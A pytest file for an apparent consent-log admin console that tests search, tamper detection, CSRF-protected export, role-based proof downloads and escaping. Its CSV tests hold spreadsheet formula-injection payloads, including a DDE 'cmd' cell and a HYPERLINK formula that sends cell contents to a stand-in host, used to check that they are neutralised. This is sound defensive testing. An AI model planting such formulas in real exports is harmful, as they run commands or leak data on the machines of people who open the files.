"""The consent log: search, a record's receipt and chain check, export."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient

from admin_support import APP, events, manifest, post, record, send, sign_in
from server import Kelisim
from server.models import ConsentRecord


@pytest.fixture
def sent(client: FlaskClient, published: Path, kelisim: Kelisim,
         users: dict[str, int]) -> dict[str, Any]:
    m = manifest(client)
    a = [record(m), record(m, action="acknowledge", purposes={})]
    b = [record(m, action="decline", purposes={})]
    auth_a = send(client, a)
    send(client, b)
    sign_in(client, kelisim, users["viewer"])
    return {"a": a, "b": b, "install_a": auth_a["X-Install"]}


def test_search(client: FlaskClient, sent: dict[str, Any]) -> None:
    html = client.get(f"/admin/apps/{APP}/consents").get_data(True)
    assert html.count('class="tag ') == 3
    html = client.get(f"/admin/apps/{APP}/consents?install_id={sent['install_a']}"
                      ).get_data(True)
    assert html.count('class="tag ') == 2
    html = client.get(f"/admin/apps/{APP}/consents?action=decline").get_data(True)
    assert html.count('class="tag ') == 1 and sent["b"][0]["id"][:8] in html
    html = client.get(f"/admin/apps/{APP}/consents?record_id={sent['a'][1]['id']}"
                      "&version=1.0&date_from=2000-01-01").get_data(True)
    assert html.count('class="tag ') == 1
    resp = client.get(f"/admin/apps/{APP}/consents?install_id=nope&action=eat")
    assert resp.status_code == 422
    body = resp.get_data(True)
    assert 'data-field="install_id"' in body and 'data-field="action"' in body


def test_the_filter_offers_subject_links_in_the_page_language(client: FlaskClient,
                                                             sent: dict[str, Any]) -> None:
    # link/unlink rows are in the log (issue 21): the filter names them and finds them.
    resp = client.get(f"/admin/apps/{APP}/consents?action=link")
    assert resp.status_code == 200
    html = resp.get_data(True)
    assert '<option value="link" selected>' in html and 'value="unlink"' in html
    assert html.count('class="tag ') == 0
    html = client.get(f"/admin/apps/{APP}/consents?action=link",
                      headers={"Accept-Language": "ru"}).get_data(True)
    assert ">привязка к пользователю</option>" in html


def test_record_verify_and_tampering(client: FlaskClient, sent: dict[str, Any],
                                     kelisim: Kelisim) -> None:
    rid = sent["a"][0]["id"]
    html = client.get(f"/admin/apps/{APP}/consents/{rid}").get_data(True)
    assert "application/vnd.kelisim.receipt+json" in html and 'id="checks"' not in html
    html = client.get(f"/admin/apps/{APP}/consents/{rid}?verify=1").get_data(True)
    assert html.count('<li class="ok">') == 5 and '<li class="bad">' not in html
    with kelisim.db.session() as s:
        s.execute(sa.update(ConsentRecord).where(ConsentRecord.record_id == rid)
                  .values(purposes={"delivery": True, "notifications": True}))
    html = client.get(f"/admin/apps/{APP}/consents/{rid}?verify=1").get_data(True)
    assert '<li class="bad">✘ record content matches its hash' in html
    # The next record's link still points at the stored hash, which is consistent.
    nxt = sent["a"][1]["id"]
    html = client.get(f"/admin/apps/{APP}/consents/{nxt}?verify=1").get_data(True)
    assert '<li class="bad">' not in html


def export(client: FlaskClient, fmt: str, **filters: str) -> Any:
    return post(client, f"/admin/apps/{APP}/consents/export", {"fmt": fmt, **filters})


def test_export(client: FlaskClient, sent: dict[str, Any], kelisim: Kelisim) -> None:
    resp = export(client, "csv", install_id=sent["install_a"])
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(resp.get_data(True))))
    assert [r["record_id"] for r in rows] == [r["id"] for r in sent["a"]]
    assert rows[0]["operator_bin"] and rows[0]["chain_hash"]
    resp = export(client, "jsonl", action="decline")
    lines = [json.loads(x) for x in resp.get_data(True).splitlines()]
    assert [x["record_id"] for x in lines] == [sent["b"][0]["id"]]
    assert [e.details["format"] for e in events(kelisim, "consents.export")] == ["csv", "jsonl"]
    assert export(client, "csv", version="0").status_code == 422
    assert export(client, "xls").status_code == 422


def test_the_export_is_a_post_with_the_csrf_token(client: FlaskClient, sent: dict[str, Any],
                                                  kelisim: Kelisim) -> None:
    """A link or an image on another site cannot make a signed-in browser export (and
    write an audit row): a GET finds no export, a POST without the token is refused."""
    page = client.get(f"/admin/apps/{APP}/consents?action=decline").get_data(True)
    form = page[page.index('id="export"'):]
    form = form[:form.index("</form>")]
    assert 'name="csrf_token"' in form and 'name="action" value="decline"' in form
    for fmt in ("csv", "jsonl"):
        assert client.get(f"/admin/apps/{APP}/consents.{fmt}").status_code in (404, 405)
        assert client.get(f"/admin/apps/{APP}/consents/export?fmt={fmt}").status_code in (
            404, 405)
    resp = client.post(f"/admin/apps/{APP}/consents/export", data={"fmt": "csv"})
    assert resp.status_code == 400
    assert events(kelisim, "consents.export") == []


@pytest.mark.parametrize("query", ["app_id=x", "fmt=x", "_method=POST", "_external=1",
                                   "_anchor=x", "_scheme=https", "before=1&_external=1",
                                   "action=eat&_method=POST"])
def test_query_parameters_never_reach_url_for(client: FlaskClient, sent: dict[str, Any],
                                              query: str) -> None:
    """Unknown query parameters on the consent log are ignored (no 500 from url_for, and
    no link built from the Host header)."""
    resp = client.get(f"/admin/apps/{APP}/consents?{query}")
    assert resp.status_code in (200, 422), resp.get_data(True)[-2000:]
    assert "//localhost" not in resp.get_data(True)  # no link from the Host header


def test_the_record_page_shows_the_guardian(client: FlaskClient, cli: Any, demo_dir: Path,
                                            kelisim: Kelisim, users: dict[str, int]) -> None:
    toml = demo_dir / "1.0" / "version.toml"
    toml.write_text(toml.read_text().replace("guardian_consent = false",
                                             "guardian_consent = true"))
    cli("keys", "init")
    cli("apps", "create", str(demo_dir))
    cli("publish", str(demo_dir / "1.0"))
    rec = record(manifest(client), age_confirmed=False,
                 guardian={"name": "Aigerim <b>Nur</b>", "relation": "mother"})
    send(client, [rec])
    sign_in(client, kelisim, users["viewer"])
    html = client.get(f"/admin/apps/{APP}/consents/{rec['id']}").get_data(True)
    shown = html[html.index('id="guardian"'):]
    shown = shown[:shown.index("</dd>")]
    assert "Aigerim &lt;b&gt;Nur&lt;/b&gt;" in shown and "mother" in shown
    other = record(manifest(client))
    send(client, [other])
    html = client.get(f"/admin/apps/{APP}/consents/{other['id']}").get_data(True)
    assert 'id="guardian">–</dd>' in html


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
        client: FlaskClient, cli: Any, demo_dir: Path, kelisim: Kelisim,
        users: dict[str, int]) -> None:
    """Publisher-controlled text (operator and vendor names) starting with =, +, -, @, a
    tab or CR is written with a leading ' in the console's CSV and the CLI's: one
    function (server.consent.export.csv_cell) for both."""
    app_toml = demo_dir / "app.toml"
    text = app_toml.read_text()
    operator = re.search(r'(?m)^name = "([^"]+)"', text[text.index("[controller]"):])
    assert operator
    text = text.replace(f'name = "{operator.group(1)}"', 'name = "=HYPERLINK(\\"x\\")"', 1)
    vendor = re.search(r'(?m)^name = "([^"]+)"', text[text.index("[[vendors]]"):])
    assert vendor
    text = text.replace(f'name = "{vendor.group(1)}"', 'name = "@SUM(1+1)"', 1)
    app_toml.write_text(text)
    version_toml = demo_dir / "1.0" / "version.toml"
    # Firebase (US) now receives data: the version must say so (publishing checks it).
    version_toml.write_text(version_toml.read_text().replace(
        "vendors = []", 'vendors = ["firebase"]', 1)
        .replace("third_party_transfer = false", "third_party_transfer = true")
        .replace("cross_border_transfer = false", "cross_border_transfer = true"))
    cli("keys", "init")
    cli("apps", "create", str(demo_dir))
    cli("publish", str(demo_dir / "1.0"))
    send(client, [record(manifest(client))])
    sign_in(client, kelisim, users["viewer"])
    console = export(client, "csv").get_data(True)
    shell = cli("consents", "export", APP, "--format", "csv").output
    for out in (console, shell):
        row = next(iter(csv.DictReader(io.StringIO(out))))
        assert row["operator"] == "'=HYPERLINK(\"x\")", row["operator"]
        assert row["vendors"].startswith("'@SUM(1+1)"), row["vendors"]
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    jsonl = json.loads(cli("consents", "export", APP).output.splitlines()[0])
    assert jsonl["operator"] == '=HYPERLINK("x")'  # JSON lines carry the data as it is


def test_csv_cell() -> None:
    from server.consent.export import csv_cell

    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "")] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", ""]
    assert [csv_cell(v) for v in (-3, 1.5, None, True, ["-a", "b"], {"k": 1})] == [
        -3, 1.5, "", "True", "'-a;b", '{"k": 1}']
    # A piece after a separator is a cell of its own where a spreadsheet splits on ";"
    # (Excel in ru and kk locales) or ",": each is neutralised too.
    assert csv_cell('3.0;=HYPERLINK("http://x/?"&A1)') == "3.0;'=HYPERLINK(\"http://x/?\"&A1)"
    assert csv_cell(["ok", "=cmd|' /C calc'!A0"]) == "ok;'=cmd|' /C calc'!A0"
    assert csv_cell('a, "@SUM(1)') == "a, \"'@SUM(1)"
    assert csv_cell("a; b, c") == "a; b, c"


def test_the_cli_export_is_audited(cli: Any, sent: dict[str, Any], kelisim: Kelisim) -> None:
    cli("consents", "export", APP, "--format", "csv", "--since", "2000-01-01T00:00:00Z")
    [event] = events(kelisim, "consents.export")
    assert (event.actor, event.target, event.details) == (
        "cli", APP, {"format": "csv", "filters": {"since": "2000-01-01T00:00:00Z"}})


def test_record_page_shows_the_log_and_owners_download_the_proof(
        client: FlaskClient, sent: dict[str, Any], kelisim: Kelisim,
        users: dict[str, int], cli: Any, tmp_path: Path) -> None:
    from client_sdk import verify_proof_file

    rid = sent["a"][1]["id"]
    html = client.get(f"/admin/apps/{APP}/consents/{rid}").get_data(True)  # a viewer
    assert '<dd id="log-size">3</dd>' in html and 'id="checkpoint"' in html
    assert f"/consents/{rid}/proof" not in html
    assert post(client, f"/admin/apps/{APP}/consents/{rid}/proof").status_code == 403
    sign_in(client, kelisim, users["owner"])
    html = client.get(f"/admin/apps/{APP}/consents/{rid}").get_data(True)
    assert f"/consents/{rid}/proof" in html
    resp = post(client, f"/admin/apps/{APP}/consents/{rid}/proof")
    assert resp.status_code == 200, resp.get_data(True)
    assert f'filename="{APP}-{rid}.kelisim-proof"' in resp.headers["Content-Disposition"]
    # The console writes the SDK's one proof-file format: the command and the SDK verify it.
    doc = json.loads(resp.data)
    assert doc["_type"] == "kelisim.proof" and doc["record"]["record_id"] == rid
    (tmp_path / "root.json").write_bytes(client.get("/v1/root.json").data)
    (tmp_path / "r.kelisim-proof").write_bytes(resp.data)
    out = cli("proof", "verify", str(tmp_path / "r.kelisim-proof"),
              "--root", str(tmp_path / "root.json")).output
    assert f"proven: record {rid} of app {APP} is entry 1 of the log" in out
    assert "checkpoint: tree size 3" in out
    proven = verify_proof_file(resp.data, (tmp_path / "root.json").read_bytes())
    assert (proven.record_id, proven.index, proven.size) == (rid, 1, 3)
    # Another record's content in the same file does not verify.
    doc["record"]["action"] = "decline"
    (tmp_path / "bad.kelisim-proof").write_text(json.dumps(doc))
    out = cli("proof", "verify", str(tmp_path / "bad.kelisim-proof"),
              "--root", str(tmp_path / "root.json"), ok=False).output
    assert "does not verify: inclusion proof" in out
    assert events(kelisim, "consents.proof")[-1].details == {"record_id": rid}
    # Without the CSRF token: refused, nothing audited.
    assert client.post(f"/admin/apps/{APP}/consents/{rid}/proof").status_code in (400, 403)
    assert len(events(kelisim, "consents.proof")) == 1


def test_an_auditor_downloads_a_records_proof_and_the_other_roles_do_not(
        client: FlaskClient, sent: dict[str, Any], kelisim: Kelisim,
        users: dict[str, int]) -> None:
    rid = sent["a"][0]["id"]
    url = f"/admin/apps/{APP}/consents/{rid}/proof"
    for role in ("publisher", "responder"):
        sign_in(client, kelisim, users[role])
        assert url not in client.get(f"/admin/apps/{APP}/consents/{rid}").get_data(True)
        assert post(client, url).status_code == 403
    sign_in(client, kelisim, users["auditor"])
    assert url in client.get(f"/admin/apps/{APP}/consents/{rid}").get_data(True)
    resp = post(client, url)
    assert resp.status_code == 200 and json.loads(resp.data)["record"]["record_id"] == rid
    assert [(e.actor, e.details) for e in events(kelisim, "consents.proof")] == [
        ("auditor@example.com", {"record_id": rid})]
